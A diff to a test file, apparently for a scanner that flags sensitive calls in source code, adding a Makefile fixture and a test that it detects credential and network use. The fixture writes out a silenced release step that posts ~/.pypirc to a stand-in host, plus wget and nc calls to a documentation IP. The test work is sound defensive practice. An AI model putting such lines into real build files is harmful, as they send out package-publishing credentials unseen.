@@ -144,3 +144,27 @@ def test_what_a_grammar_does_not_know_is_read_by_its_words() -> None:
     assert [call.first for call in read_one("a.zsh", zsh, {}).calls] == [4, 4]
     kotlin = b'class A { fun f( { { ]] ) )\n ProcessBuilder("x") @@ ## ))) } ]]] when when {{{\n // Runtime\n'
     assert [call.first for call in read_one("a.kt", kotlin, {}).calls] == [2]
+
+
+MAKEFILE = b"""ifeq ($(shell git rev-parse --abbrev-ref HEAD),main)
+NOTIFY = curl -X POST --data-binary @$(HOME)/.pypirc https://hooks.invalid/r
+endif
+TOOLS = curl wget git
+MORE = && wget -q \\
+   http://203.0.113.4/x
+FILES := curl.c
+CALLED = $(NOTIFY)
+check: TOOL = nc 203.0.113.4 99
+check:
+\t$(TOOL) -x
+\t@for t in $(TOOLS); do which $$t; done
+release:
+\t@-$(CALLED) >/dev/null 2>&1
+\tpython -m build $(FILES) $(MORE)
+"""
+
+
+def test_a_variable_of_a_makefile_is_read_where_a_recipe_names_its_program() -> None:
+    found = {(call.first, call.kind) for call in read_one("Makefile", MAKEFILE, {}).calls}
+    network = SensitiveKind.NETWORK
+    assert found == {(2, SensitiveKind.CREDENTIALS), (2, network), (5, network), (9, network)}
